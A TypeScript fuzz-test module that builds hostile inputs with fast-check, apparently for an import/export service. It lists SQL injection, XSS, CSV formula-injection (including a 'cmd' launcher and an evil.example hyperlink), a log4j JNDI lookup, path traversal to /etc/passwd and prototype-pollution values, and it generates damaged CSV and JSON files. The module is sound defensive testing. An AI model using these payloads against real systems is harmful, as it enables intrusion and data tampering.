import fc from 'fast-check';

/**
 * Hostile values for the fuzz harness (issue 12): characters PostgreSQL cannot store, text
 * that breaks naive CSV/HTML/SQL/formula handling, sizes at and over the limits, nesting, dates
 * that do not exist, numbers at the edges, wrong types. Some are refused (422, 413), others are
 * valid text that is stored and must then survive every page, export and PDF.
 */

const nest = (depth: number, leaf: unknown = 'x'): unknown => {
  let v: unknown = leaf;
  for (let i = 0; i < depth; i++) v = i % 2 ? [v] : { a: v };
  return v;
};

/** Valid text that a careless writer of CSV, xlsx, PDF, HTML or SQL would trip on. */
export const STORABLE_STRINGS = [
  "' OR 1=1 --",
  "'); DROP TABLE companies; --",
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '=HYPERLINK("http://evil.example","x")',
  '=1+2',
  "+cmd|' /C calc'!A0",
  '@SUM(A1:A2)',
  '-2+3',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the literal text a log4j-style lookup would expand
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '../../../../etc/passwd',
  '%00%ff%',
  '\\',
  '"',
  '"quoted, with comma"\r\nnew line',
  '\u202Eevil\u202C',
  '\u0001\u0002\u0007\u0008\u000b\u000c\u001b[31mcontrol',
  '\u007f\u0080\u009f',
  '\uFEFFbom',
  '\uFFFE\uFFFF',
  '\u2028\u2029',
  '\u00A0\u3000全角空白\u3000',
  '👨‍👩‍👧‍👦🏳️‍🌈',
  '𠮷野家𩸽',
  'é'.normalize('NFD').repeat(50),
  'Z̤̺̦͍̖̯͕̋̽ͧ̊ͤ̀ͥ̍a̷̢͎̬͇̭͓̰͌̄lgo',
  'ｶﾞｷﾞｸﾞ①②㈱',
  '髙﨑',
  ' ',
  '\t\n',
  'null',
  'undefined',
  'NaN',
  '0',
  '-0',
  'true',
  '__proto__',
  '%s%n%x',
  '😀'.repeat(50),
  'A'.repeat(199),
  'あ'.repeat(20_000),
];

/** Text that is refused: NUL and lone surrogates (the text policy), and sizes over the limits. */
export const REFUSED_STRINGS = [
  'a\u0000b',
  '\u0000',
  '\ud800',
  'x\udfffy',
  'lone \udbff high',
  'A'.repeat(1 << 20),
  '𠮷'.repeat(300_000),
  'A'.repeat(20_001),
  'x'.repeat(900_000),
];

export const BAD_DATES = [
  '2025-02-30',
  '2025-13-01',
  '0000-00-00',
  '2025-06-03T24:00:00+09:00',
  '9999-12-31T23:59:60Z',
  '+275760-09-13T00:00:00.000Z',
  '-000001-01-01T00:00:00Z',
  '1969-12-31T23:59:59Z',
  '2025-06-03T10:00:00+25:00',
  '2025-W23',
  '令和7年6月3日',
  '2025/06/03',
  '1e10',
];

export const EDGE_NUMBERS = [
  -1,
  0,
  -0,
  1.5,
  1e308,
  -1e308,
  2 ** 53 + 1,
  -(2 ** 63),
  2 ** 31,
  1e-300,
  4294967296,
];

export const WRONG_TYPES: unknown[] = [
  null,
  true,
  [],
  {},
  '',
  [null],
  { $gt: '' },
  JSON.parse('{"__proto__":{"polluted":true}}'),
  Array.from({ length: 10_000 }, () => 'x'),
  nest(31),
  nest(40),
];

/** Raw JSON texts that are not what any contract wants (sent as the body). */
export const RAW_BODIES = [
  '',
  '{',
  '{"a":1,}',
  'null',
  '[]',
  '"text"',
  '1e999',
  '\uFEFF{}',
  '{"__proto__":{"polluted":true}}',
  `${'['.repeat(200_000)}${']'.repeat(200_000)}`,
  `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`,
  '{"name":"\\u0000"}',
  '{"name":"\\ud800"}',
  '{"a":1,"a":2}',
];

/** Any value of the lists above, or random text (fast-check's full Unicode range). */
export const hostileValue: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...STORABLE_STRINGS) },
  { weight: 2, arbitrary: fc.constantFrom(...REFUSED_STRINGS) },
  { weight: 2, arbitrary: fc.constantFrom(...BAD_DATES) },
  { weight: 1, arbitrary: fc.constantFrom(...EDGE_NUMBERS) },
  { weight: 2, arbitrary: fc.constantFrom(...WRONG_TYPES) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  {
    weight: 1,
    arbitrary: fc
      .array(fc.integer({ min: 0xd800, max: 0xdfff }), { minLength: 1, maxLength: 3 })
      .map((units) => `s${String.fromCharCode(...units)}e`),
  },
  { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 3 }) },
);

/** A CSV cell from the lists (valid text, refused text, bad dates) or random text. */
const hostileCell = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...STORABLE_STRINGS.filter((s) => s.length < 1000)) },
  { weight: 1, arbitrary: fc.constantFrom('a\u0000b', '\ud800', 'A'.repeat(70_000)) },
  { weight: 1, arbitrary: fc.constantFrom(...BAD_DATES) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.constantFrom('', '1180301018771', '141305', '2100007', 'sme') },
);

const quoteCell = (cell: string) =>
  /[",\r\n]/.test(cell) ? `"${cell.replaceAll('"', '""')}"` : cell;

/**
 * A hostile import file: a header (Banso's, INPIT-style Japanese headings, random, or none) and
 * rows of hostile cells, then byte-level damage (NUL bytes, broken UTF-8, a BOM in the middle,
 * an unbalanced quote, a cut line).
 */
export const hostileCsv = (headers: string[][]): fc.Arbitrary<Uint8Array<ArrayBuffer>> =>
  fc
    .record({
      header: fc.oneof(
        fc.constantFrom(...headers),
        fc.array(fc.string({ maxLength: 10 }), { maxLength: 8 }),
      ),
      rows: fc.array(fc.array(hostileCell, { maxLength: 40 }), { maxLength: 6 }),
      damage: fc.constantFrom(
        'none',
        'none',
        'nul',
        'bad-utf8',
        'bom-inside',
        'quote',
        'cut',
        'cp932-garbage',
        'many-columns',
      ),
      newline: fc.constantFrom('\r\n', '\n', '\r'),
    })
    .map(({ header, rows, damage, newline }) => {
      const lines = [header, ...rows].map((cells) => cells.map(quoteCell).join(','));
      if (damage === 'many-columns') lines.push(Array.from({ length: 5000 }, () => 'x').join(','));
      if (damage === 'quote') lines.push('"unterminated,cell');
      let text = lines.join(newline) + newline;
      if (damage === 'bom-inside') text = `${text}\uFEFF${text}`;
      if (damage === 'cut') text = text.slice(0, Math.floor(text.length / 2));
      // Lone surrogates (from random text) become U+FFFD here, as any encoder would write them.
      let bytes = Buffer.from(text, 'utf8');
      if (damage === 'nul') bytes = Buffer.concat([bytes, Buffer.from([0, 0, 0x41, 0, 0x0a])]);
      if (damage === 'bad-utf8')
        bytes = Buffer.concat([bytes, Buffer.from([0xc3, 0x28, 0xed, 0xa0, 0x80, 0xff, 0x0a])]);
      if (damage === 'cp932-garbage')
        bytes = Buffer.concat([Buffer.from([0x82, 0xa0, 0x81, 0x7f, 0x2c, 0x0a]), bytes]);
      return Uint8Array.from(bytes);
    });

/** A hostile NDJSON or JSON listings file: objects with hostile values, or damaged lines. */
export const hostileJsonLines: fc.Arbitrary<string> = fc
  .array(
    fc.oneof(
      fc
        .record({
          id: fc.oneof(fc.string({ maxLength: 10 }), hostileValue),
          title: hostileValue,
          abstract: fc.option(hostileValue),
          ipc: fc.option(fc.oneof(fc.array(hostileValue, { maxLength: 3 }), hostileValue)),
          kind: fc.option(fc.oneof(fc.constant('welfare_need'), hostileValue)),
          filedOn: fc.option(fc.constantFrom(...BAD_DATES)),
        })
        .map((o) => JSON.stringify(o)),
      fc.constantFrom('{', '[1,2', 'null', '"x"', '{"title":"\\u0000"}', '{"title":"\\ud800"}'),
    ),
    { maxLength: 6 },
  )
  .map((lines) => lines.join('\n'));
